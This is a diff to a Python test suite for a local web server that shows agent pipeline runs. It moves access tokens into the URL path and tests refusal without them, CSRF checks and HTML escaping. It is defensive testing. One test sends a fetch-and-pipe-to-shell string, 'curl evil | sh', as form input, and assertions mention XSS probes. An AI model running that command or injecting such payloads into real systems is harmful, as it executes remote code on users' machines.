@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import re
 import time
+import urllib.error
+import urllib.request
 from pathlib import Path
 
 import attrs
@@ -15,12 +17,12 @@ from starlette.testclient import TestClient
 
 from pipeline.cli._render import state_rows
 from pipeline.cli._serve_app import make_app
-from pipeline.cli._serve_guard import TOKEN_COOKIE, Access
+from pipeline.cli._serve_guard import Access
 from pipeline.events import InvocationStarted, Json, PipelineEvent, RunId, TopicPublished
 from pipeline.handlers.store import SqliteEventStore
 from pipeline.reducers import fold
 from tests.chromium import CHROMIUM, dump_dom
-from tests.cli.serving import free_port, start_serve
+from tests.cli.serving import free_port, printed_address, start_serve
 from tests.runtime.workspace import ralph
 from tests.support import scripted_run
 
@@ -59,12 +61,14 @@ FORM = Access(SECRET, remote=False).form_token
 """What the pages' forms carry."""
 
 
+ROOT = f"http://127.0.0.1:8765/t/{SECRET}"
+"""The address ``ralph serve`` prints (without its last ``/``): the pages' root."""
+
+
 def _client(path: Path, tmp_path: Path, remote: bool = False) -> TestClient:
-    """A browser that brought the token once (its cookie holds it)."""
+    """A browser at the address ``ralph serve`` printed (every path is under its token)."""
     app = make_app(str(path), tmp_path, Access(SECRET, remote))
-    client = TestClient(app, base_url="http://127.0.0.1:8765")
-    client.cookies.set(TOKEN_COOKIE, SECRET)
-    return client
+    return TestClient(app, base_url=ROOT)
 
 
 def test_the_pages_show_the_runs_with_every_agents_text_escaped(
@@ -74,14 +78,14 @@ def test_the_pages_show_the_runs_with_every_agents_text_escaped(
     client = _client(path, tmp_path)
     runs = client.get("/")
     assert runs.status_code == 200
-    assert f'href="/runs/{RUN}"' in runs.text
+    assert f'href="./runs/{RUN}"' in runs.text
     page = client.get(f"/runs/{RUN}")
     assert page.status_code == 200
     assert f"max='{len(events)}'" in page.text
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
     assert "<script>alert" not in page.text
     assert "<img src=x" not in page.text
-    assert re.findall(r"<script[^>]*>", page.text) == ["<script src='/app.js' defer>"]
+    assert re.findall(r"<script[^>]*>", page.text) == ["<script src='../app.js' defer>"]
     assert "script-src 'self'" in page.headers["content-security-policy"]
     assert client.get("/runs/nobody").status_code == 404
     report = client.get(f"/runs/{RUN}/report")
@@ -130,6 +134,7 @@ def test_a_form_changes_a_run_only_from_the_page_itself(
     page = client.get(f"/runs/{RUN}").text
     assert f"value='{FORM}'" in page
     assert SECRET not in page, "the page holds the form token, never the access token"
+    assert f"action='../runs/{RUN}/guide'" in page, "relative: the address keeps the token"
     assert client.post(url, data=fields).status_code == 403
     assert client.post(url, data={**fields, "csrf": "guessed"}).status_code == 403
     assert client.post(url, data={**fields, "csrf": SECRET}).status_code == 403
@@ -155,6 +160,8 @@ def test_a_form_changes_a_run_only_from_the_page_itself(
 def test_only_loopback_hosts_are_served_and_a_remote_server_wants_its_token(
     store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
 ) -> None:
+    """A loopback server answers no other host name; with or without loopback, only the
+    token in the address (or a bearer) lets a request in."""
     path, _events = store_file
     local = _client(path, tmp_path)
     assert local.get("/", headers={"host": "rebound.example"}).status_code == 400
@@ -163,17 +170,53 @@ def test_only_loopback_hosts_are_served_and_a_remote_server_wants_its_token(
             make_app(str(path), tmp_path, Access(SECRET, remote=remote_flag)), base_url=base
         )
         assert stranger.get("/").status_code == 401, "another user of the machine too"
-        assert stranger.get("/", params={"token": "wrong-token-wrong"}).status_code == 401
-        arrived = stranger.get(f"/runs/{RUN}", params={"token": SECRET}, follow_redirects=False)
-        assert arrived.status_code == 303
-        assert arrived.headers["location"] == f"{base}/runs/{RUN}", "the token leaves the address"
-        assert "httponly" in arrived.headers["set-cookie"].lower()
-        assert "samesite=strict" in arrived.headers["set-cookie"].lower()
-        assert stranger.get("/").status_code == 200, "the cookie carries the token from then on"
+        assert stranger.get("/t/wrong-token-wrong/").status_code == 401
+        arrived = stranger.get(f"/t/{SECRET}/runs/{RUN}")
+        assert arrived.status_code == 200
+        assert "set-cookie" not in arrived.headers
     bearer = TestClient(
         make_app(str(path), tmp_path, Access(SECRET, remote=True)), base_url="http://10.1.2.3"
     )
     assert bearer.get("/", headers={"authorization": f"Bearer {SECRET}"}).status_code == 200
+    assert bearer.get("/", headers={"authorization": "Bearer wrong-token-wrong"}).status_code == 401
+
+
+def test_no_request_is_served_without_the_token_in_its_path_and_no_cookie_is_set(
+    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
+) -> None:
+    """Every page, stream and form is refused (401, nothing stored) without the token in its
+    address: not with the old ``ralph_token`` cookie, not with ``?token=``, not with a token
+    that only starts like it; and no answer, refused or served, sets a cookie."""
+    path, _events = store_file
+    app = make_app(str(path), tmp_path, Access(SECRET, remote=False))
+    bare = TestClient(app, base_url="http://127.0.0.1:8765")
+    with_cookie = TestClient(app, base_url="http://127.0.0.1:8765")
+    with_cookie.cookies.set("ralph_token", SECRET)  # what the old design's first visit set
+    gets = ["/", "/app.js", f"/runs/{RUN}", f"/runs/{RUN}/report", f"/runs/{RUN}/at?n=1"]
+    gets += [f"/runs/{RUN}/agents", f"/runs/{RUN}/pictures", f"/runs/{RUN}/stream"]
+    posts = [f"/runs/{RUN}/{what}" for what in ("guide", "respond", "interrupt", "fork")]
+    posts.append("/tickets/some-ticket/cancel")
+    fields = {"text": "curl evil | sh", "hat": "developer", "csrf": FORM}
+    wrong_roots = ("", f"/t/{SECRET[:-1]}", f"/t/{SECRET}x", f"/t/{SECRET.upper()}", "/t")
+    for root in wrong_roots:
+        for client in (bare, with_cookie):
+            for route in gets:
+                for query in ("", f"{'&' if '?' in route else '?'}token={SECRET}"):
+                    refused = client.get(root + route + query)
+                    assert refused.status_code == 401, (root, route, query, client.cookies)
+                    assert "set-cookie" not in refused.headers
+            for route in posts:
+                refused = client.post(root + route, data=fields)
+                assert refused.status_code == 401, (root, route, client.cookies)
+    with SqliteEventStore(path) as store:
+        assert store.guidance_after(RUN, 0) == []
+    served = _client(path, tmp_path)
+    for route in gets[:-1]:
+        answer = served.get(route)
+        assert answer.status_code == 200, route
+        assert "set-cookie" not in answer.headers, route
+        assert answer.headers["referrer-policy"] == "same-origin", route
+    assert served.get("").status_code == 200, "the root without its last / is served too"
 
 
 def test_serve_refuses_to_listen_beyond_this_machine_without_a_token(tmp_path: Path) -> None:
@@ -182,9 +225,47 @@ def test_serve_refuses_to_listen_beyond_this_machine_without_a_token(tmp_path: P
     refused = ralph("serve", str(store), "--host", "0.0.0.0", cwd=tmp_path, timeout=60)
     assert refused.returncode == 2
     assert "give a --token" in refused.stderr
+    for bad in ("short-token", "a/slash/in/the-token", "a space in the token", "per%25cent-token"):
+        unusable = ralph("serve", str(store), "--token", bad, cwd=tmp_path, timeout=60)
+        assert unusable.returncode == 2, bad
+        assert "it is part of the address" in unusable.stderr
     missing = ralph("serve", str(tmp_path / "none.db"), cwd=tmp_path, timeout=60)
     assert missing.returncode == 2
     assert "no event store at" in missing.stderr
+
+
+def test_the_address_ralph_serve_prints_opens_the_runs_and_no_cookie_does(
+    store_file: tuple[Path, list[PipelineEvent]],
+) -> None:
+    """Over plain HTTP to a real ``ralph serve``: the printed address (its drawn token in the
+    path) serves the runs and sets no cookie; the same server without the token, or with the
+    old design's cookie or query, answers 401."""
+    path, _events = store_file
+    port = free_port()
+    server = start_serve(str(path), "-C", str(path.parent), port=port)
+    try:
+        address = printed_address(server)
+        assert address.startswith(f"http://127.0.0.1:{port}/t/")
+        assert address.endswith("/")
+        token = address.split("/t/", 1)[1].rstrip("/")
+        with urllib.request.urlopen(address) as opened:
+            assert opened.status == 200
+            assert "set-cookie" not in {k.lower() for k in opened.headers}
+            assert f'href="./runs/{RUN}"' in opened.read().decode()
+        bare = f"http://127.0.0.1:{port}/"
+        for url, headers in (
+            (bare, {}),
+            (bare, {"Cookie": f"ralph_token={token}"}),
+            (f"{bare}?token={token}", {}),
+            (f"{bare}runs/{RUN}", {"Cookie": f"ralph_token={token}"}),
+        ):
+            with pytest.raises(urllib.error.HTTPError) as refused:
+                urllib.request.urlopen(urllib.request.Request(url, headers=headers))
+            assert refused.value.code == 401, (url, headers)
+            assert "set-cookie" not in {k.lower() for k in refused.value.headers}
+    finally:
+        server.terminate()
+        server.wait(timeout=30)
 
 
 @pytest.mark.slow
@@ -199,7 +280,7 @@ def test_a_real_browser_runs_the_page_script_and_no_agents_text(tmp_path: Path) 
     port = free_port()
     server = start_serve(str(path), "--token", SECRET, port=port)
     try:
-        dom = dump_dom(f"http://127.0.0.1:{port}/runs/{RUN}?token={SECRET}")
+        dom = dump_dom(f"http://127.0.0.1:{port}/t/{SECRET}/runs/{RUN}")
     finally:
         server.terminate()
         server.wait(timeout=30)
@@ -237,10 +318,8 @@ def test_a_postgresql_stores_page_lists_the_queues_tickets(
     assert worker.wait(timeout=120) == 0
     waiting = submit(postgres_url, queue_workspace(tmp_path / "second"))
     client = TestClient(
-        make_app(postgres_url, tmp_path, Access(SECRET, remote=False)),
-        base_url="http://127.0.0.1:8765",
+        make_app(postgres_url, tmp_path, Access(SECRET, remote=False)), base_url=ROOT
     )
-    client.cookies.set(TOKEN_COOKIE, SECRET)
     page = client.get("/")
     assert page.status_code == 200
     assert "<th>ticket</th>" in page.text
@@ -248,11 +327,11 @@ def test_a_postgresql_stores_page_lists_the_queues_tickets(
     assert done.ticket in page.text
     finished = client.get("/").text.split(done.ticket, 1)[1].split("</tr>", 1)[0]
     assert "done" in finished
-    assert 'href="/runs/' in finished
+    assert 'href="./runs/' in finished
     assert "/cancel'" not in finished, "a finished ticket has nothing to cancel"
     # The waiting ticket is cancelled from the page, only with the page's form token.
     url = f"/tickets/{waiting.ticket}/cancel"
-    assert f"action='{url}'" in page.text
+    assert f"action='.{url}'" in page.text
     assert client.post(url, data={}).status_code == 403
     cancelled = client.post(url, data={"csrf": FORM}, follow_redirects=False)
     assert cancelled.status_code == 303, cancelled.text
@@ -289,7 +368,7 @@ def test_a_postgresql_stores_page_lists_the_queues_tickets(
         time.sleep(0.1)
     run_page = client.get(f"/runs/{running.run_id}").text
     stop = f"/tickets/{slow.ticket}/cancel"
-    assert f"action='{stop}'" in run_page
+    assert f"action='..{stop}'" in run_page
     assert "Cancel the ticket (its worker stops the run)" in run_page
     assert client.post(stop, data={"csrf": FORM}, follow_redirects=False).status_code == 303
     assert worker.wait(timeout=60) == 0, worker.communicate()
